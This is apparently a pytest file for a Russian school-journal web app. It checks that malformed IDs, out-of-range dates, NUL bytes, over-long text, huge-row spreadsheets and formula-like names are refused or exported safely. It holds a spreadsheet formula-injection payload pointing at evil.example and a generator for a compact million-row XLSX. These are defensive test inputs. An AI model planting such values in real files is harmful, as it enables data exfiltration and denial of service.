"""The Input findings of issue 18, one test each: the request that answered 500 (or was
accepted) before now gets a Russian message, a fallback, a 400/404 — and nothing is
written (docs/DESIGN.md §3.24). tests/test_fuzz_urls.py walks every URL with such
values; this file pins each finding down."""

import io
import zipfile
from datetime import date, datetime
from zoneinfo import ZoneInfo

import pytest
from django.db import IntegrityError, transaction
from django.urls import reverse
from openpyxl import Workbook, load_workbook

from accounts.models import AuditEvent, Compromise
from journal import services, tabular
from journal.models import Attendance, Homework, Lesson, Outage
from journal.rules import at

from . import factories as F

pytestmark = pytest.mark.usefixtures("school_day")

MOSCOW = ZoneInfo("Europe/Moscow")


@pytest.fixture
def as_user(client):
    def login(user):
        client.force_login(user)
        return client

    return login


def messages_of(resp):
    return [str(m) for m in resp.context["messages"]] if resp.context else []


# --- ids and periods with digits that are not ASCII -------------------------------------------


@pytest.mark.parametrize("odd", ["²", "３", "١٢", "99999999999999999999999", "-1"])
def test_the_diary_marks_period_with_odd_digits_shows_the_current_period(world, as_user, odd):
    resp = as_user(world.parent).get(reverse("diary:marks", args=[world.pupil.pk]), {"period": odd})
    assert resp.status_code == 200


@pytest.mark.parametrize("odd", ["²", "３", "99999999999999999999999"])
def test_a_new_thread_for_an_odd_pupil_id_offers_the_parents_own_children(world, as_user, odd):
    resp = as_user(world.parent).get(reverse("diary:thread_new"), {"pupil": odd})
    assert resp.status_code == 200
    assert resp.context["form"].initial["pupil"] == world.pupil.pk


@pytest.mark.parametrize("name", ["journal:control", "journal:class_control"])
def test_the_control_page_with_an_odd_period_shows_the_current_period(world, as_user, name):
    user, args = (world.deputy, []) if name == "journal:control" else (world.class_teacher, [world.klass.pk])
    resp = as_user(user).get(reverse(name, args=args), {"period": "²"})
    assert resp.status_code == 200
    assert resp.context["period"] is not None


def test_credential_slips_for_odd_ids_issue_nothing(world, as_user):
    before = AuditEvent.objects.filter(action="account.credentials_issue").count()
    resp = as_user(world.class_teacher).post(reverse("accounts:issue_slips"), {"ids": ["²", "３"]})
    assert resp.status_code == 404
    resp = as_user(world.class_teacher).post(reverse("accounts:issue_slips"), {"ids": [str(world.pupil.pk), "²"]})
    assert resp.status_code == 200 and resp["Content-Type"] == "application/pdf"  # the odd id is left out
    assert AuditEvent.objects.filter(action="account.credentials_issue").count() == before + 1


def test_building_the_archive_for_an_odd_period_is_a_404(world, as_user):
    resp = as_user(world.admin).post(reverse("archive:build"), {"period": "0001-01-01T00:00"})
    assert resp.status_code == 404


def test_a_return_address_that_is_not_a_path_goes_home(world, as_user):
    """`redirect("0001-01-01T00:00")` took it for a namespaced view name."""
    resp = as_user(world.class_teacher).post(
        reverse("accounts:consent_add", args=[world.pupil.pk]),
        {"given_by": "Иванова А. П.", "given_on": "2026-09-01", "next": "0001-01-01T00:00"},
    )
    assert resp.status_code == 302 and resp["Location"] == reverse("accounts:people")


# --- dates beyond the calendar -------------------------------------------------------------------


@pytest.mark.parametrize("odd", ["9999-12-31", "0001-01-01", "２０２６-１１-０９", "2026-02-30"])
def test_the_diary_week_of_a_date_beyond_the_calendar_is_this_week(world, as_user, odd):
    resp = as_user(world.parent).get(reverse("diary:week", args=[world.pupil.pk]), {"date": odd})
    assert resp.status_code == 200
    assert resp.context["week"].monday == date(2026, 11, 16)


@pytest.mark.parametrize("odd", ["9999-12-31", "0001-01-01"])
def test_the_printed_diary_week_of_a_date_beyond_the_calendar_is_this_week(world, as_user, odd):
    resp = as_user(world.parent).get(reverse("diary:print_week", args=[world.pupil.pk]), {"date": odd})
    assert resp.status_code == 200
    assert "2026-11-16" in resp["Content-Disposition"]


@pytest.mark.parametrize(("kind", "query", "code"), [("attendance_month", {"month": "0001-01"}, "bad_month")])
def test_a_report_month_beyond_the_calendar_falls_back_with_a_message(world, as_user, kind, query, code):
    resp = as_user(world.class_teacher).get(reverse("reports:class_report", args=[world.klass.pk, kind]), query)
    assert resp.status_code == 200
    assert any("указан неверно" in m for m in messages_of(resp))


def test_a_report_day_beyond_the_calendar_falls_back_with_a_message(world, as_user):
    resp = as_user(world.deputy).get(reverse("reports:school_report", args=["class_sizes"]), {"date": "9999-12-31"})
    assert resp.status_code == 200
    assert any("указана неверно" in m for m in messages_of(resp))


@pytest.mark.parametrize("odd", ["9999-12-31", "0001-01-01", "x" * 300])
def test_a_temporary_journal_blank_for_a_day_beyond_the_calendar_is_a_404(world, as_user, odd):
    resp = as_user(world.class_teacher).get(reverse("journal:day_blank_xlsx", args=[world.klass.pk, odd]))
    assert resp.status_code == 404


def test_an_outage_in_year_1_is_refused_and_nothing_is_stored(world, as_user):
    """F8: stored as a date BC, the outage broke the outage pages of the whole school."""
    client = as_user(world.deputy)
    resp = client.post(reverse("journal:outages"), {"start": "0001-01-01T00:00", "end": "", "reason": "нет интернета"})
    assert resp.status_code == 200
    assert "между 1900 и 2100" in str(resp.context["form"].errors)
    assert 'value="нет интернета"' in resp.content.decode()  # what was typed stays
    assert not Outage.objects.exists()
    assert client.get(reverse("journal:outages")).status_code == 200


def test_closing_an_outage_in_year_9999_is_refused(world, as_user):
    outage = F.OutageFactory(school=world.school, start=at(date(2026, 11, 19), datetime.min.time()), end=None)
    resp = as_user(world.deputy).post(reverse("journal:outage_close", args=[outage.pk]), {"end": "9999-12-31T23:59"})
    assert resp.status_code == 302
    outage.refresh_from_db()
    assert outage.end is None


def test_a_compromise_moment_in_year_1_is_refused(world, as_user):
    resp = as_user(world.admin).post(
        reverse("accounts:compromises"),
        {"user": world.teacher.pk, "learned_at": "0001-01-01T00:00", "reason": "пароль на стикере"},
    )
    assert resp.status_code == 200
    assert "между 1900 и 2100" in str(resp.context["form"].errors)
    assert not Compromise.objects.exists()
    world.teacher.refresh_from_db()
    assert world.teacher.is_active


@pytest.mark.parametrize(
    "make",
    [
        lambda w: Outage(
            school=w.school, start=datetime(1, 1, 1, 3, tzinfo=MOSCOW), reason="сбой", created_by=w.deputy
        ),
        lambda w: Compromise(
            school=w.school,
            user=w.teacher,
            learned_at=datetime(1, 1, 1, 3, tzinfo=MOSCOW),
            reason="пароль",
            recorded_by=w.admin,
        ),
    ],
    ids=["outage", "compromise"],
)
def test_the_database_refuses_a_moment_before_1900(world, make):
    with pytest.raises(IntegrityError), transaction.atomic():
        make(world).save()


@pytest.mark.parametrize("field", ["birth_date"])
def test_a_birth_date_in_year_1_is_a_form_error(world, as_user, field):
    resp = as_user(world.class_teacher).post(
        reverse("journal:pupil_card", args=[world.pupil.pk]),
        {"last_name": "Иванова", "first_name": "Мария", field: "0001-01-01", "sex": "f"},
    )
    assert resp.status_code == 200
    assert "между 1900 и 2100" in str(resp.context["form"].errors)
    world.pupil.refresh_from_db()
    assert world.pupil.birth_date is None or world.pupil.birth_date.year >= 1900


# --- NUL and over-long text ----------------------------------------------------------------------


def test_a_nul_in_the_people_search_says_so_and_finds_nothing(world, as_user):
    resp = as_user(world.deputy).get(reverse("accounts:people"), {"q": "Ива\x00нова"})
    assert resp.status_code == 200
    assert any("недопустимый символ" in m for m in messages_of(resp))


def test_a_nul_in_a_cells_reason_is_refused_and_nothing_written(world, as_user):
    lesson = F.LessonFactory(assignment=world.assignment, date=date(2026, 11, 20), bell=world.lessons[0].bell)
    before = AuditEvent.objects.count()
    resp = as_user(world.teacher).post(
        reverse("journal:cell", args=[lesson.pk]),
        {"k": "a", "p": world.pupil.pk, "v": 0, "value": "н", "reason": "опоздал\x00"},
    )
    assert resp.status_code == 422
    assert "недопустимый символ" in resp.content.decode()
    assert not Attendance.objects.filter(lesson=lesson).exists()
    assert AuditEvent.objects.count() == before


def test_a_cells_reason_longer_than_the_limit_is_refused(world, as_user):
    lesson = F.LessonFactory(assignment=world.assignment, date=date(2026, 11, 20), bell=world.lessons[0].bell)
    resp = as_user(world.teacher).post(
        reverse("journal:cell", args=[lesson.pk]),
        {"k": "a", "p": world.pupil.pk, "v": 0, "value": "н", "reason": "я" * 501},
    )
    assert resp.status_code == 422
    assert "длиннее 500 символов" in resp.content.decode()
    assert not Attendance.objects.filter(lesson=lesson).exists()


@pytest.mark.parametrize("username", ["x" * 256, "a" * 10_000, "sokolov\x00"])
def test_a_login_longer_than_any_account_is_refused_before_the_lockout_sees_it(client, world, username):
    from axes.models import AccessAttempt

    resp = client.post(reverse("login"), {"username": username, "password": "x"})
    assert resp.status_code == 200
    assert resp.context["form"].errors
    assert not AccessAttempt.objects.exists()


def test_a_megabyte_of_homework_is_refused_and_the_typed_text_stays(world, as_user):
    """F13: 1 MB was accepted; the family's diary PDF then timed out."""
    lesson = F.LessonFactory(assignment=world.assignment, date=date(2026, 11, 20), bell=world.lessons[0].bell)
    text = "Выучить параграф. " * 60_000
    resp = as_user(world.teacher).post(reverse("journal:lesson_homework", args=[lesson.pk]), {"text": text})
    assert resp.status_code == 422
    assert "не более 4000" in str(resp.context["homework_form"].errors) or "4000" in str(
        resp.context["homework_form"].errors
    )
    assert resp.context["homework_form"]["text"].value() == text
    assert not Homework.objects.filter(lesson=lesson).exists()


def test_the_homework_service_refuses_text_over_the_limit(world):
    lesson = F.LessonFactory(assignment=world.assignment, date=date(2026, 11, 20), bell=world.lessons[0].bell)
    with pytest.raises(services.ServiceError) as e:
        services.set_homework(world.teacher, lesson_id=lesson.pk, text="я" * 4001)
    assert "длиннее 4000 символов" in e.value.message
    assert services.set_homework(world.teacher, lesson_id=lesson.pk, text="я" * 4000).text == "я" * 4000


@pytest.mark.parametrize(
    ("factory", "field", "limit"),
    [
        ("homework", "text", 4000),
        ("message", "body", 5000),
        ("announcement", "body", 5000),
        ("correction", "reasons", 2000),
        ("compromise", "reason", 2000),
    ],
)
def test_the_database_keeps_free_text_within_its_limit(world, factory, field, limit):
    from diary.models import Announcement, Message, Thread
    from journal.models import CorrectionRequest

    lesson = world.lessons[0]
    make = {
        "homework": lambda text: Homework(lesson=lesson, text=text),
        "message": lambda text: Message(
            thread=Thread.objects.create(
                school=world.school,
                pupil=world.pupil,
                parent=world.parent,
                kind="administration",
                subject="Тема",
                created_by=world.parent,
                last_message_at=datetime(2026, 11, 19, tzinfo=MOSCOW),
            ),
            author=world.parent,
            body=text,
        ),
        "announcement": lambda text: Announcement(school=world.school, author=world.deputy, title="Т", body=text),
        "correction": lambda text: CorrectionRequest(
            school=world.school,
            teacher=world.teacher,
            assignment=world.assignment,
            date=lesson.date,
            school_class=world.klass,
            subject=world.subject,
            target="lesson",
            lesson=lesson,
            reasons=text,
        ),
        "compromise": lambda text: Compromise(
            school=world.school,
            user=world.teacher,
            learned_at=datetime(2026, 11, 19, tzinfo=MOSCOW),
            reason=text,
            recorded_by=world.admin,
        ),
    }[factory]
    with pytest.raises(IntegrityError), transaction.atomic():
        make("я" * (limit + 1)).save()
    make("я" * limit).save()


def test_a_nul_in_a_revoked_substitutions_reason_is_a_message(world, as_user):
    sub = F.SubstitutionFactory(lesson=world.lessons[2], substitute=world.class_teacher, assigned_by=world.deputy)
    resp = as_user(world.deputy).post(
        reverse("journal:substitution_revoke", args=[sub.pk]), {"reason": "вышел\x00"}, follow=True
    )
    assert resp.status_code == 200
    assert any("недопустимый символ" in m for m in messages_of(resp))
    sub.refresh_from_db()
    assert sub.revoked_at is None


# --- uploads: rows streamed, reading stops at the limit -------------------------------------------


def _xlsx_with_rows(rows: int) -> bytes:
    """An XLSX written by openpyxl (write_only) whose sheet then gets `rows` more rows
    (`<row>` numbers are optional): a million rows of one cell pack into a few hundred KB."""
    wb = Workbook(write_only=True)
    ws = wb.create_sheet()
    ws.append(["Урок", "Предмет", "Ученик", "ID", "Посещаемость"])
    buf = io.BytesIO()
    wb.save(buf)
    src = zipfile.ZipFile(io.BytesIO(buf.getvalue()))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        for info in src.infolist():
            data = src.read(info.filename)
            if info.filename.startswith("xl/worksheets/"):
                head, tail = data.decode().split("</sheetData>")
                data = (head + '<row><c t="n"><v>1</v></c></row>' * rows + "</sheetData>" + tail).encode()
            z.writestr(info.filename, data)
    return out.getvalue()


@pytest.fixture
def rows_parsed(monkeypatch):
    """How many `<row>` elements openpyxl parsed (a spy: the parsing itself is real)."""
    from openpyxl.worksheet._reader import WorkSheetParser

    count = {"rows": 0}
    real = WorkSheetParser.parse_row

    def counting(self, row):
        count["rows"] += 1
        return real(self, row)

    monkeypatch.setattr(WorkSheetParser, "parse_row", counting)
    return count


def upload(data, name="vremennyi.xlsx"):
    from django.core.files.uploadedfile import SimpleUploadedFile

    return SimpleUploadedFile(name, data)


def test_a_small_xlsx_with_a_million_rows_is_refused_without_reading_them(rows_parsed):
    """F7: a 225 KB XLSX with 1.2 M rows pinned a worker for 30 s at 380 MB."""
    data = _xlsx_with_rows(1_200_000)
    assert len(data) < tabular.MAX_BYTES
    with pytest.raises(services.ServiceError) as e:
        tabular.read_table(upload(data))
    assert e.value.code == "too_many_rows"
    assert "больше 2000 строк" in e.value.message
    assert rows_parsed["rows"] == 0  # refused from the archive's directory: nothing unpacked


def test_reading_an_xlsx_stops_at_the_row_limit(rows_parsed):
    data = _xlsx_with_rows(50_000)  # small enough to unpack: read row by row
    with pytest.raises(services.ServiceError) as e:
        tabular.read_table(upload(data))
    assert e.value.code == "too_many_rows"
    assert tabular.MAX_ROWS < rows_parsed["rows"] <= tabular.MAX_ROWS + 2


def test_an_xlsx_of_rows_numbered_out_of_order_is_still_counted(rows_parsed):
    """openpyxl skips a row numbered below the previous one; a file of them all numbered
    2 would be read to its end without one row counted."""
    wb = Workbook(write_only=True)
    ws = wb.create_sheet()
    ws.append(["Урок"])
    buf = io.BytesIO()
    wb.save(buf)
    src = zipfile.ZipFile(io.BytesIO(buf.getvalue()))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        for info in src.infolist():
            data = src.read(info.filename)
            if info.filename.startswith("xl/worksheets/"):
                head, tail = data.decode().split("</sheetData>")
                data = (
                    head + '<row r="2"><c r="A2" t="n"><v>1</v></c></row>' * 50_000 + "</sheetData>" + tail
                ).encode()
            z.writestr(info.filename, data)
    with pytest.raises(services.ServiceError) as e:
        tabular.read_table(upload(out.getvalue()))
    assert e.value.code == "too_many_rows"
    assert rows_parsed["rows"] <= tabular.MAX_ROWS + 2


def test_a_csv_of_empty_lines_stops_at_the_line_limit():
    with pytest.raises(services.ServiceError) as e:
        tabular.read_table(upload(b"\n" * 1_000_000, name="plan.csv"))
    assert e.value.code == "too_many_rows"


@pytest.mark.parametrize("url", ["plan_import", "temp_import"])
def test_the_import_pages_refuse_the_million_row_file_with_a_message(
    world, as_user, url, rows_parsed, django_assert_max_num_queries
):
    data = _xlsx_with_rows(1_200_000)
    if url == "plan_import":
        target, post = reverse("journal:plan_import", args=[world.assignment.pk]), {}
    else:
        outage = F.OutageFactory(
            school=world.school,
            start=at(date(2026, 11, 9), datetime.min.time()),
            end=at(date(2026, 11, 10), datetime.min.time()),
        )
        target, post = (
            reverse("journal:temp_import", args=[outage.pk]),
            {
                "school_class": world.klass.pk,
                "paper_date": "2026-11-09",
            },
        )
    user = world.teacher if url == "plan_import" else world.deputy
    client = as_user(user)
    with django_assert_max_num_queries(40):
        resp = client.post(target, {**post, "file": upload(data)})
    assert resp.status_code in (200, 422)
    assert "больше 2000 строк" in resp.content.decode()
    assert rows_parsed["rows"] == 0


# --- spreadsheets out: formula-like text stays text ------------------------------------------------


def _cells(content: bytes):
    wb = load_workbook(io.BytesIO(content))
    return [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value is not None]


def _has_formula(content: bytes) -> bool:
    archive = zipfile.ZipFile(io.BytesIO(content))
    return any(b"<f>" in archive.read(n) or b"<f " in archive.read(n) for n in archive.namelist() if "worksheets" in n)


EVIL = '=HYPERLINK("http://evil.example/?"&A1,"Нажмите")'


@pytest.fixture
def evil_pupil(world):
    world.pupil.last_name = EVIL
    world.pupil.save(update_fields=["last_name"])
    return world.pupil


def test_a_class_report_xlsx_writes_a_formula_like_name_as_text(world, as_user, evil_pupil):
    """F6: a pupil name starting with «=» was a live formula in every export."""
    resp = as_user(world.class_teacher).get(
        reverse("reports:class_report_file", args=[world.klass.pk, "class_period", "xlsx"])
    )
    assert resp.status_code == 200
    content = b"".join(resp.streaming_content) if resp.streaming else resp.content
    assert not _has_formula(content)
    named = [c for c in _cells(content) if isinstance(c.value, str) and c.value.startswith("=HYPERLINK")]
    assert named and all(c.data_type == "s" and c.quotePrefix for c in named)


def test_the_temporary_journal_blank_writes_a_formula_like_name_as_text(world, as_user, evil_pupil):
    resp = as_user(world.class_teacher).get(
        reverse("journal:day_blank_xlsx", args=[world.klass.pk, world.lessons[0].date.isoformat()])
    )
    assert resp.status_code == 200
    content = b"".join(resp.streaming_content) if resp.streaming else resp.content
    assert not _has_formula(content)
    names = [c for c in _cells(content) if isinstance(c.value, str) and c.value.startswith("=HYPERLINK")]
    assert names and all(c.data_type == "s" and c.quotePrefix for c in names)


@pytest.mark.parametrize("topic", ["=1+1", "+7", "-2+3", "@SUM(A1)"])
def test_a_formula_like_topic_is_text_in_the_journal_pages_export(world, as_user, topic):
    Lesson.objects.filter(pk=world.lessons[0].pk).update(topic=topic)
    resp = as_user(world.teacher).get(
        reverse("reports:assignment_report_file", args=[world.assignment.pk, "journal_pages", "xlsx"])
    )
    assert resp.status_code == 200
    content = b"".join(resp.streaming_content) if resp.streaming else resp.content
    assert not _has_formula(content)
    cells = [c for c in _cells(content) if c.value == topic]
    assert cells and all(c.data_type == "s" and c.quotePrefix for c in cells)


def test_the_admin_site_refuses_a_holiday_in_year_9999(world, client):
    """The admin's date fields follow the same calendar (accounts/admin.py SchoolScopedMixin)."""
    from accounts import services as account_services
    from accounts.models import RoleAssignment
    from journal.models import Holidays

    account_services.set_roles(world.admin, world.admin, [RoleAssignment.Role.ADMIN])
    client.force_login(world.admin)
    resp = client.post(
        reverse("admin:journal_holidays_add"),
        {"year": world.year.pk, "name": "Каникулы", "start": "9999-12-30", "end": "9999-12-31", "grades": ""},
    )
    assert resp.status_code == 200
    assert "между 1900 и 2100" in str(resp.context["adminform"].form.errors)
    assert not Holidays.objects.filter(name="Каникулы", start__year=9999).exists()


def test_the_lesson_changes_pages_take_odd_class_ids_and_weeks(world, as_user):
    """Found by tests/test_fuzz_urls.py: `?klass=²` and a week in year 9999 (its next week overflows)."""
    client = as_user(world.deputy)
    assert client.get(reverse("journal:lesson_add"), {"klass": "²"}).status_code == 200
    resp = client.get(reverse("journal:lesson_changes"), {"klass": world.klass.pk, "week": "9999-12-31"})
    assert resp.status_code == 200
    assert "между 1900 и 2100" in str(resp.context["form"].errors)


def test_a_certificate_file_of_megabytes_is_refused_unread(world, client):
    from accounts import services as account_services
    from accounts.models import RoleAssignment

    account_services.set_roles(world.admin, world.admin, [RoleAssignment.Role.ADMIN])
    client.force_login(world.admin)
    resp = client.post(
        reverse("archive:certificate"), {"file": upload(b"\0" * (3 * 1024 * 1024), name="school.p12"), "password": "x"}
    )
    assert resp.status_code == 400
    assert "больше 256 КБ" in str(resp.context["form"].errors)


@pytest.mark.parametrize("odd", ["9999-12-31", "0001-01-01", "２０２６-１１-２０"])
def test_the_timetable_week_of_a_day_beyond_the_calendar_is_this_week(world, as_user, odd):
    """Found by tests/test_fuzz_urls.py once the timetable editor came (`?on=` read by
    date.fromisoformat: 9999-12-31 has no next week)."""
    resp = as_user(world.deputy).get(reverse("journal:timetable_class", args=[world.klass.pk]), {"on": odd})
    assert resp.status_code == 200
    assert resp.context["on"] == date(2026, 11, 20)


def test_the_people_list_filtered_by_an_odd_class_shows_everyone_it_may(world, as_user):
    """`?klass=²` passed `isdigit()` and failed in `int()`."""
    resp = as_user(world.deputy).get(reverse("accounts:people"), {"klass": "²"})
    assert resp.status_code == 200
    assert resp.context["klass"] == ""


def test_confirming_slips_for_odd_ids_goes_back_with_a_message(world, as_user):
    resp = as_user(world.class_teacher).get(reverse("accounts:issue_confirm"), {"ids": ["²", "３"]}, follow=True)
    assert resp.status_code == 200
    assert any("Отметьте людей" in m for m in messages_of(resp))


def test_locking_an_account_with_a_nul_in_the_reason_is_refused(world, as_user):
    from accounts import services as account_services
    from accounts.models import RoleAssignment

    account_services.set_roles(world.admin, world.admin, [RoleAssignment.Role.ADMIN])
    resp = as_user(world.admin).post(
        reverse("accounts:set_active", args=[world.pupil.pk]), {"active": "0", "reason": "утерян\x00"}
    )
    assert resp.status_code == 400
    assert any("недопустимый символ" in m for m in messages_of(resp))
    world.pupil.refresh_from_db()
    assert world.pupil.is_active
